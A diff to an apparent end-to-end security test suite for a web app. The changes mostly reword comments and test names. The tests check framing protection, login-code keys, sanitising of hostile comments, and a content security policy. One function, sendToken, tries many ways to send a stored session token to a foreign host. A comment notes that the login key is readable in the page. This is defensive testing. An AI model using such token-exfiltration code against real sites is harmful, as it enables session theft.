@@ -6,17 +6,17 @@ import { ELSEWHERE, payloads } from '@gemas/mocks/payloads';
 import { expect, heading, test } from './harness.ts';
 
 const FERNANDA = '48213';
-/** A key for login codes that differs from the key of the build. */
+/** A key for login codes that is not the key of the build. */
 const OTHER_KEY = 'ab'.repeat(32);
 
 interface Foreign {
   origin: string;
-  /** Paths that were requested from the foreign server. */
+  /** Paths that were requested from this server. */
   asked: string[];
   close(): void;
 }
 
-/** Serves a page at every address of another origin. */
+/** Serves the same page at every path of another origin. */
 async function servePage(html: string): Promise<Foreign> {
   const asked: string[] = [];
   const server = createServer(({ url = '' }, outgoing) => {
@@ -32,7 +32,7 @@ async function servePage(html: string): Promise<Foreign> {
   return { origin: `http://localhost:${port}`, asked, close };
 }
 
-test('a foreign page can neither frame the app nor reach into a window that it opens', async ({
+test('a page of another origin cannot frame the app and cannot access a window with the app', async ({
   page,
   site,
   violations,
@@ -57,11 +57,15 @@ test('a foreign page can neither frame the app nor reach into a window that it o
   await expect.poll(seen).toBe(true);
   expect(await opened.evaluate(() => window.opener)).toBeNull();
   foreign.close();
-  // The browser reports that it has refused to show the app in a frame, as expected.
+  // The browser has reported that it refuses to show the app in a frame. The report is expected.
   violations.length = 0;
 });
 
-test('whoever has the app can make a link, and nobody else', async ({ page, site, server }) => {
+test('only a login code that is encrypted with the key of the build logs a user in', async ({
+  page,
+  site,
+  server,
+}) => {
   const made = await encryptLoginCode(FERNANDA, DEVELOPMENT_LOGIN_CODE_KEY);
   const links = [
     await encryptLoginCode(FERNANDA, OTHER_KEY),
@@ -75,19 +79,19 @@ test('whoever has the app can make a link, and nobody else', async ({ page, site
     await page.goto('about:blank');
   }
   expect(await server.requests('POST', '/auth/login')).toEqual([]);
-  // The key is readable in the page, so anybody can use it (docs/security.md).
+  // Everybody can read the key in the page and use it (docs/security.md).
   const [key = ''] = /\b[\da-f]{64}\b/.exec(await (await fetch(site.address)).text()) ?? [];
   await page.goto(`${site.address}?code=${await encryptLoginCode(FERNANDA, key)}`);
   await expect(heading(page, /Ávila/)).toBeVisible();
 });
 
 /**
- * Number of payloads in one comment of the thread. The thread has as many comments as a screen renders at once.
- * payloads.spec.ts shows each payload alone.
+ * Number of payloads in one comment of the thread. With this number, the comments fit on one screen, which renders all
+ * of them. payloads.spec.ts shows each payload alone.
  */
 const OF_A_COMMENT = 30;
 
-test('a thread of every hostile comment runs nothing and asks no other host', async ({
+test('a thread with all hostile comments runs no script and sends no request to another host', async ({
   page,
   site,
   enter,
@@ -123,12 +127,12 @@ test('a thread of every hostile comment runs nothing and asks no other host', as
   await expect(hostile).toHaveCount(0);
   expect(await page.evaluate(() => 'hasRun' in window)).toBe(false);
   expect(asked).toEqual([]);
-  // These reports are expected: the sanitiser parses html in a separate document, and the policy reports the event
-  // handlers that it blocks there.
+  // The sanitiser parses HTML in a separate document, where the content security policy blocks event handlers. The
+  // reports about these are expected.
   violations.length = 0;
 });
 
-/** Sends the token to another host in every way that a page has without navigating away. Runs in the page. */
+/** Sends the token to another host in every way that does not leave the page. Runs in the page. */
 function sendToken(host: string): void {
   const to = (way: string) => `${host}/${way}?${localStorage.token}`;
   const add = (name: string, attributes: Record<string, string>) => {
@@ -137,7 +141,7 @@ function sendToken(host: string): void {
       try {
         element.setAttribute(key, value);
       } catch {
-        // Trusted Types block it.
+        // Trusted Types block this attribute.
       }
     }
     document.body.append(element);
@@ -174,12 +178,12 @@ function sendToken(host: string): void {
     try {
       way();
     } catch {
-      // The policy blocks it.
+      // The content security policy blocks this request.
     }
   }
 }
 
-test('code in the app can send the token to no other host, unless it leaves the page', async ({
+test('a script in the page can send the token to another host only by leaving the page', async ({
   page,
   enter,
   violations,
@@ -188,11 +192,11 @@ test('code in the app can send the token to no other host, unless it leaves the 
   await enter(FERNANDA);
   await expect(heading(page, /Ávila/)).toBeVisible();
   await page.evaluate(sendToken, foreign.origin);
-  // Waits until more than 15 requests were blocked. Requests that were not blocked have arrived by then.
+  // More than 15 requests must be blocked. Requests that are not blocked have arrived by then.
   await expect.poll(() => violations.length).toBeGreaterThan(15);
   const token = await page.evaluate(() => localStorage.token);
   expect(foreign.asked).toEqual([]);
-  // No policy can prevent a page from navigating away (docs/security.md).
+  // A content security policy cannot prevent a page from navigating away (docs/security.md).
   await page.evaluate((to) => window.location.assign(to), `${foreign.origin}/left?${token}`);
   await expect(heading(page, 'Ajena')).toBeVisible();
   expect(foreign.asked).toContain(`/left?${token}`);
